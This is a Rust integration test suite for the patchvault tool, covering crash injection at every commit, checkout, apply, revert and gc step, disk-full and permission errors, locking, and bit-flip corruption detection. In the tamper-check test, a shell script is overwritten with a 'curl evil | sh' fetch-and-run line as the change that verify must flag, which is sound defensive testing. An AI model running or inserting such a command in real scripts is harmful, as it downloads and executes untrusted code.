//! Reliability through the real binary: SIGKILL at every crash point of
//! commit, checkout, apply, revert and gc (the store stays consistent, the
//! next command succeeds, the home ends as the uninterrupted run's), disk
//! full, a read-only store, unreadable files, the store lock, and bit
//! flips anywhere in the store.

mod common;

use std::fs;
use std::os::unix::process::ExitStatusExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use common::{assert_same, picture, Home, Picture, BIN};
use serde_json::Value;

fn pv_in(dir: &Path, args: &[&str], env: &[(&str, String)]) -> Output {
    let mut c = Command::new(BIN);
    c.args(args)
        .current_dir(dir)
        .env("PATCHVAULT_AUTHOR", "Test <t@example.com>")
        .env_remove("PATCHVAULT_FAULT_KILL_AT");
    for (k, v) in env {
        c.env(k, v);
    }
    c.output().expect("run patchvault")
}

fn text(o: &Output) -> String {
    format!(
        "exit {:?} signal {:?}\nstdout: {}\nstderr: {}",
        o.status.code(),
        o.status.signal(),
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

fn home_picture(dir: &Path) -> Picture {
    picture(
        dir,
        &[".patchvault", ".patchvault-staging", "repository/logs"],
    )
}

fn cp_a(from: &Path, to: &Path) {
    let _ = fs::remove_dir_all(to);
    let st = Command::new("cp")
        .arg("-a")
        .arg(from)
        .arg(to)
        .status()
        .expect("cp");
    assert!(st.success());
}

fn fsck_clean(dir: &Path, ctx: &str) {
    let o = pv_in(dir, &["fsck", "--json"], &[]);
    let v: Value = serde_json::from_slice(&o.stdout).unwrap_or(Value::Null);
    assert!(
        o.status.success() && v["clean"] == true,
        "{ctx}: fsck not clean: {}",
        text(&o)
    );
}

/// One operation to interrupt.
struct Scenario {
    name: &'static str,
    /// The command to interrupt (and to run again after).
    op: Vec<String>,
    /// Exit codes accepted when the command runs again after the crash
    /// (e.g. 3: "already applied" when the first run got through).
    again_ok: &'static [i32],
}

/// Runs `sc` on a copy of `template` once per crash point; returns the runs.
fn crash_everywhere(template: &Path, work: &Path, sc: &Scenario) -> usize {
    let op: Vec<&str> = sc.op.iter().map(String::as_str).collect();
    let reference = work.join(format!("{}-reference", sc.name));
    cp_a(template, &reference);
    let o = pv_in(&reference, &op, &[("PATCHVAULT_FAULT_COUNT", "1".into())]);
    assert!(
        o.status.success(),
        "{}: reference run failed: {}",
        sc.name,
        text(&o)
    );
    let err = String::from_utf8_lossy(&o.stderr);
    let points: usize = err
        .lines()
        .find_map(|l| l.strip_prefix("patchvault-fault-points: "))
        .and_then(|n| n.trim().parse().ok())
        .expect("fault point count");
    assert!(points > 3, "{}: only {points} crash points", sc.name);
    let want = home_picture(&reference);
    let want_tree = head_tree(&reference);
    let mut runs = 0;
    for k in 1..=points {
        let dir = work.join(format!("{}-{k}", sc.name));
        cp_a(template, &dir);
        let o = pv_in(&dir, &op, &[("PATCHVAULT_FAULT_KILL_AT", k.to_string())]);
        let ctx = format!("{} killed at point {k}/{points}", sc.name);
        if o.status.signal() != Some(9) {
            // Parallel work can pass fewer points on some runs.
            assert!(o.status.success(), "{ctx}: {}", text(&o));
        }
        runs += 1;
        fsck_clean(&dir, &ctx);
        let log = pv_in(&dir, &["log", "-n", "1", "--json"], &[]);
        assert!(
            log.status.success(),
            "{ctx}: HEAD does not name a complete commit: {}",
            text(&log)
        );
        // The next command (which finishes an interrupted move first) succeeds.
        let again = pv_in(&dir, &op, &[]);
        let code = again.status.code().unwrap_or(-1);
        assert!(
            code == 0 || sc.again_ok.contains(&code),
            "{ctx}: running it again failed: {}",
            text(&again)
        );
        fsck_clean(&dir, &ctx);
        assert_same(&want, &home_picture(&dir));
        assert_eq!(
            head_tree(&dir),
            want_tree,
            "{ctx}: HEAD's tree differs from the uninterrupted run's"
        );
        let st = pv_in(&dir, &["status", "--json"], &[]);
        let v: Value = serde_json::from_slice(&st.stdout).unwrap_or(Value::Null);
        assert_eq!(
            v["clean"],
            true,
            "{ctx}: home differs from HEAD: {}",
            text(&st)
        );
        let _ = fs::remove_dir_all(&dir);
    }
    runs
}

fn head_tree(dir: &Path) -> String {
    let o = pv_in(dir, &["show", "--json"], &[]);
    let v: Value = serde_json::from_slice(&o.stdout).unwrap_or(Value::Null);
    v["commit"]["tree"].as_str().unwrap_or("").to_string()
}

/// Commits the home's changes but is killed just before HEAD moves: every
/// new object is in the store and nothing names them.
fn interrupted_commit(h: &Home) {
    let probe = h.tmp.path().join("probe");
    cp_a(&h.dir, &probe);
    let o = pv_in(
        &probe,
        &["commit", "-m", "probe"],
        &[("PATCHVAULT_FAULT_COUNT", "1".into())],
    );
    let err = String::from_utf8_lossy(&o.stderr);
    let n: usize = err
        .lines()
        .find_map(|l| l.strip_prefix("patchvault-fault-points: "))
        .and_then(|n| n.trim().parse().ok())
        .expect("count");
    let _ = fs::remove_dir_all(&probe);
    // The last two points are the ref write and the stat cache write.
    let o = pv_in(
        &h.dir,
        &["commit", "-m", "interrupted"],
        &[("PATCHVAULT_FAULT_KILL_AT", (n - 1).to_string())],
    );
    assert_eq!(o.status.signal(), Some(9), "{}", text(&o));
}

fn template(name: &str, h: &Home) -> PathBuf {
    let t = h.tmp.path().join(name);
    cp_a(&h.dir, &t);
    t
}

#[test]
fn sigkill_at_every_crash_point_leaves_a_consistent_store_and_home() {
    let h = Home::new(10);
    let work = h.tmp.path().join("work");
    fs::create_dir_all(&work).unwrap();
    let zips: Vec<PathBuf> = (1..=5)
        .map(|n| {
            h.sample
                .write_patch_zip(n, &h.tmp.path().join("zips"))
                .unwrap()
        })
        .collect();
    let z = |n: usize| zips[n - 1].to_str().unwrap().to_string();
    let mut runs = 0;

    // apply on a home without history: the baseline commit, then the patch.
    h.ok(&["init"]);
    let t = template("fresh", &h);
    runs += crash_everywhere(
        &t,
        &work,
        &Scenario {
            name: "apply-first",
            op: vec!["apply".into(), z(5)],
            again_ok: &[3],
        },
    );

    h.ok(&["commit", "-m", "Baseline"]);
    // commit of changed files.
    let plugins = h.path("repository/components/plugins");
    for j in &h.sample.jars[..6] {
        fs::write(
            plugins.join(j.file_name()),
            format!("changed {}", j.symbolic_name),
        )
        .unwrap();
    }
    fs::write(h.path("repository/conf/new.xml"), "<new/>").unwrap();
    let t = template("dirty", &h);
    runs += crash_everywhere(
        &t,
        &work,
        &Scenario {
            name: "commit",
            op: vec!["commit".into(), "-m".into(), "changes".into()],
            again_ok: &[3],
        },
    );

    h.ok(&["commit", "-m", "changes"]);
    let t = template("committed", &h);
    runs += crash_everywhere(
        &t,
        &work,
        &Scenario {
            name: "checkout",
            op: vec!["checkout".into(), "patch0000".into()],
            again_ok: &[],
        },
    );
    runs += crash_everywhere(
        &t,
        &work,
        &Scenario {
            name: "apply",
            op: vec!["apply".into(), z(2)],
            again_ok: &[3],
        },
    );

    h.ok(&["apply", &z(5)]);
    h.ok(&["apply", &z(3)]);
    let t = template("patched", &h);
    runs += crash_everywhere(
        &t,
        &work,
        &Scenario {
            name: "revert",
            op: vec!["revert".into(), "patch0005".into()],
            again_ok: &[1],
        },
    );

    // gc with garbage left by an interrupted commit.
    fs::write(h.path("repository/conf/garbage.xml"), "x".repeat(5000)).unwrap();
    interrupted_commit(&h);
    fs::remove_file(h.path("repository/conf/garbage.xml")).unwrap();
    let t = template("garbage", &h);
    runs += crash_everywhere(
        &t,
        &work,
        &Scenario {
            name: "gc",
            op: vec!["gc".into(), "--grace".into(), "0".into()],
            again_ok: &[],
        },
    );

    assert!(runs >= 200, "only {runs} crash runs");
    eprintln!("{runs} SIGKILL runs");
}

#[test]
fn disk_full_is_a_clear_error_and_changes_nothing() {
    let h = Home::committed(8);
    fs::write(h.path("repository/conf/carbon.xml"), "<v2/>".repeat(100)).unwrap();
    let head = head_tree(&h.dir);
    let o = pv_in(
        &h.dir,
        &["commit", "-m", "x"],
        &[("PATCHVAULT_FAULT_ENOSPC_AT", "1".into())],
    );
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("No space left on device") && err.contains(".patchvault/tmp"),
        "{err}"
    );
    assert_eq!(head_tree(&h.dir), head);
    fsck_clean(&h.dir, "after disk full");
    assert_eq!(
        fs::read_dir(h.path(".patchvault/tmp")).unwrap().count(),
        0,
        "no temp files left"
    );
    h.ok(&["commit", "-m", "x"]);

    // During a checkout: staging fails before anything in the home moves.
    let before = h.picture();
    let o = pv_in(
        &h.dir,
        &["checkout", "patch0000"],
        &[("PATCHVAULT_FAULT_ENOSPC_AT", "1".into())],
    );
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert_same(&before, &h.picture());
    assert!(!h.path(".patchvault/journal").exists());
    fsck_clean(&h.dir, "after disk full in checkout");
}

fn is_root() -> bool {
    // SAFETY: geteuid has no preconditions.
    unsafe { libc::geteuid() == 0 }
}

/// Runs patchvault as an unprivileged user when we are root (so that file
/// permissions really apply), else as ourselves.
fn pv_unprivileged(dir: &Path, args: &[&str]) -> Output {
    let mut c = if is_root() {
        let mut c = Command::new("setpriv");
        c.args(["--reuid=65534", "--regid=65534", "--clear-groups", BIN]);
        c
    } else {
        Command::new(BIN)
    };
    c.args(args)
        .current_dir(dir)
        .env("PATCHVAULT_AUTHOR", "T <t@e>")
        .output()
        .expect("run")
}

fn open_up(path: &Path) {
    // Let the unprivileged user reach the temp directory.
    let mut p = path.to_path_buf();
    while let Some(parent) = p.parent() {
        if parent == Path::new("/") || parent == Path::new("/tmp") {
            break;
        }
        let _ = Command::new("chmod").arg("o+rx").arg(parent).status();
        p = parent.to_path_buf();
    }
}

#[test]
fn a_read_only_store_is_a_clear_error() {
    let h = Home::committed(6);
    fs::write(h.path("repository/conf/carbon.xml"), "<v2/>").unwrap();
    open_up(&h.dir);
    Command::new("chmod")
        .args(["-R", "a+rX"])
        .arg(&h.dir)
        .status()
        .unwrap();
    if !is_root() {
        Command::new("chmod")
            .args(["-R", "a-w"])
            .arg(h.path(".patchvault"))
            .status()
            .unwrap();
    }
    let before: Vec<_> = picture(&h.path(".patchvault"), &[]).into_keys().collect();
    let o = pv_unprivileged(&h.dir, &["commit", "-m", "x"]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("Permission denied") && err.contains(".patchvault"),
        "{err}"
    );
    if !is_root() {
        Command::new("chmod")
            .args(["-R", "u+w"])
            .arg(h.path(".patchvault"))
            .status()
            .unwrap();
    }
    let after: Vec<_> = picture(&h.path(".patchvault"), &[]).into_keys().collect();
    assert_eq!(before, after);
    // Read-only commands still work on a read-only store.
    let st = pv_unprivileged(&h.dir, &["status", "--json"]);
    assert!(st.status.success(), "{}", text(&st));
    fsck_clean(&h.dir, "read-only store");
}

#[test]
fn an_unreadable_file_is_named_and_nothing_is_recorded() {
    let h = Home::committed(6);
    let head = head_tree(&h.dir);
    open_up(&h.dir);
    if is_root() {
        Command::new("chown")
            .args(["-R", "65534:65534"])
            .arg(&h.dir)
            .status()
            .unwrap();
    }
    let secret = h.path("repository/conf/security.xml");
    fs::write(&secret, "<secret/>").unwrap();
    if is_root() {
        Command::new("chown")
            .args(["65534:65534"])
            .arg(&secret)
            .status()
            .unwrap();
    }
    fs::set_permissions(&secret, std::os::unix::fs::PermissionsExt::from_mode(0o000)).unwrap();
    let o = pv_unprivileged(&h.dir, &["commit", "-m", "x"]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("security.xml") && err.contains("Permission denied"),
        "{err}"
    );
    assert_eq!(head_tree(&h.dir), head);
    fsck_clean(&h.dir, "unreadable file");
}

#[test]
fn the_lock_names_its_holder_and_a_dead_holder_is_no_obstacle() {
    let h = Home::committed(5);
    fs::write(h.path("repository/conf/carbon.xml"), "<v2/>").unwrap();
    let lock_path = h.path(".patchvault/lock");
    {
        let f = fs::OpenOptions::new()
            .read(true)
            .write(true)
            .create(true)
            .truncate(true)
            .open(&lock_path)
            .unwrap();
        f.lock().unwrap();
        fs::write(
            &lock_path,
            format!("pid {} since 2026-12-03T10:00:00Z\n", std::process::id()),
        )
        .unwrap();
        let o = pv_in(
            &h.dir,
            &["commit", "-m", "x"],
            &[("PATCHVAULT_LOCK_WAIT", "0.3".into())],
        );
        assert_eq!(o.status.code(), Some(3), "{}", text(&o));
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(
            err.contains(&format!(
                "locked by pid {} since 2026-12-03T10:00:00Z",
                std::process::id()
            )),
            "{err}"
        );
        // Readers do not wait for writers.
        assert!(pv_in(&h.dir, &["status"], &[]).status.success());
    }
    // The holder is gone (its file closed): its text remains, the lock is free.
    fs::write(&lock_path, "pid 999999 since 2026-12-01T00:00:00Z\n").unwrap();
    h.ok(&["commit", "-m", "x"]);
    let text = fs::read_to_string(&lock_path).unwrap();
    assert!(
        text.starts_with("pid ") && !text.contains("999999"),
        "{text}"
    );
}

fn objects(store: &Path) -> Vec<PathBuf> {
    let mut v = Vec::new();
    for fan in fs::read_dir(store.join("objects")).unwrap().flatten() {
        for o in fs::read_dir(fan.path()).unwrap().flatten() {
            v.push(o.path());
        }
    }
    v.sort();
    v
}

#[test]
fn a_bit_flipped_anywhere_is_reported_never_used() {
    let h = Home::committed(6);
    fs::write(h.path("repository/conf/carbon.xml"), "<v2/>".repeat(50)).unwrap();
    fs::write(
        h.path("repository/components/plugins")
            .join(h.sample.jars[0].file_name()),
        b"replaced",
    )
    .unwrap();
    h.ok(&["commit", "-m", "v2"]);
    let store = h.path(".patchvault");
    let objs = objects(&store);
    assert!(objs.len() > 20);
    let mut rng = patchvault_sample::Rng::new(5);
    for obj in &objs {
        let id: String = format!(
            "{}{}",
            obj.parent().unwrap().file_name().unwrap().to_string_lossy(),
            obj.file_name().unwrap().to_string_lossy()
        );
        let orig = fs::read(obj).unwrap();
        let mut bytes = orig.clone();
        let pos = rng.below(bytes.len() as u64) as usize;
        bytes[pos] ^= 1 << rng.below(8);
        fs::set_permissions(obj, std::os::unix::fs::PermissionsExt::from_mode(0o644)).unwrap();
        fs::write(obj, &bytes).unwrap();
        let o = pv_in(&h.dir, &["fsck", "--json"], &[]);
        assert_eq!(
            o.status.code(),
            Some(4),
            "flip at {pos} of {id} not reported: {}",
            text(&o)
        );
        assert!(
            String::from_utf8_lossy(&o.stdout).contains(&id),
            "fsck names {id}"
        );
        // Any command reading it fails instead of using it.
        let all = pv_in(&h.dir, &["checkout", "--force", "patch0000"], &[]);
        let log = pv_in(&h.dir, &["diff", "patch0000", "HEAD"], &[]);
        assert!(
            !all.status.success()
                || !log.status.success()
                || h.json(&["status", "--json"])["clean"] == true,
            "{id}"
        );
        fs::write(obj, &orig).unwrap();
        // Undo what a successful checkout did, if it ran.
        if all.status.success() {
            h.ok(&["checkout", "main~0"]);
        }
    }
    fsck_clean(&h.dir, "all restored");

    // Refs, the stat cache and the config.
    let tag = store.join("refs/tags/patch0000");
    let orig = fs::read_to_string(&tag).unwrap();
    fs::write(
        &tag,
        orig.replacen(&orig[..1], if &orig[..1] == "a" { "b" } else { "a" }, 1),
    )
    .unwrap();
    let o = pv_in(&h.dir, &["fsck"], &[]);
    assert_eq!(o.status.code(), Some(4), "{}", text(&o));
    fs::write(&tag, orig).unwrap();
    h.ok(&["status"]);
    let ix = store.join("index");
    let mut bytes = fs::read(&ix).unwrap();
    bytes[20] ^= 4;
    fs::write(&ix, bytes).unwrap();
    let o = pv_in(&h.dir, &["fsck"], &[]);
    assert_eq!(o.status.code(), Some(4));
    assert!(
        String::from_utf8_lossy(&o.stdout).contains("stat cache"),
        "{}",
        text(&o)
    );
    h.ok(&["fsck", "--repair"]);
    let cfg = store.join("config");
    let orig = fs::read_to_string(&cfg).unwrap();
    fs::write(&cfg, orig.replace("format = 1", "format = 9")).unwrap();
    let o = pv_in(&h.dir, &["status"], &[]);
    assert_eq!(o.status.code(), Some(4));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("store format 9 is not supported"),
        "{}",
        text(&o)
    );
    fs::write(&cfg, orig).unwrap();
}

#[test]
fn fsck_repair_restores_a_damaged_blob_from_the_home() {
    let h = Home::committed(6);
    let jar = h
        .path("repository/components/plugins")
        .join(h.sample.jars[2].file_name());
    let id = blake3::hash(&fs::read(&jar).unwrap()).to_hex().to_string();
    let obj = h.path(&format!(".patchvault/objects/{}/{}", &id[..2], &id[2..]));
    fs::remove_file(&obj).unwrap();
    let o = pv_in(&h.dir, &["fsck"], &[]);
    assert_eq!(o.status.code(), Some(4));
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(
        out.contains(&format!("object {id} is missing"))
            && out.contains(&h.sample.jars[2].file_name()),
        "names the path: {out}"
    );
    let o = pv_in(&h.dir, &["fsck", "--repair"], &[]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(String::from_utf8_lossy(&o.stdout).contains("repaired"));
    fsck_clean(&h.dir, "after repair");
}

#[test]
fn verify_is_a_tamper_check_with_an_exit_code() {
    let h = Home::committed(6);
    assert_eq!(pv_in(&h.dir, &["verify"], &[]).status.code(), Some(0));
    fs::write(h.path("bin/wso2server.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
    let o = pv_in(&h.dir, &["verify", "--json"], &[]);
    assert_eq!(o.status.code(), Some(5));
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["changes"][0]["path"], "bin/wso2server.sh");
}

#[test]
fn gc_frees_garbage_and_keeps_autosaves_and_recent_objects() {
    let h = Home::committed(6);
    fs::write(h.path("repository/conf/big.xml"), "y".repeat(100_000)).unwrap();
    interrupted_commit(&h);
    fs::remove_file(h.path("repository/conf/big.xml")).unwrap();
    fs::write(h.path("repository/conf/carbon.xml"), "<dirty/>").unwrap();
    let r = h.json(&["checkout", "--force", "patch0000", "--json"]);
    let autosave = r["autosave"][1].as_str().unwrap().to_string();
    let kept = h.json(&["gc", "--json"]);
    assert_eq!(
        kept["removed"], 0,
        "grace period protects new objects: {kept}"
    );
    assert!(kept["kept_recent"].as_u64().unwrap() > 0);
    let freed = h.json(&["gc", "--grace", "0", "--json"]);
    assert!(
        freed["removed"].as_u64().unwrap() > 0 && freed["freed_bytes"].as_u64().unwrap() > 0,
        "{freed}"
    );
    fsck_clean(&h.dir, "after gc");
    h.ok(&["checkout", &autosave]);
    assert_eq!(
        fs::read_to_string(h.path("repository/conf/carbon.xml")).unwrap(),
        "<dirty/>"
    );
}
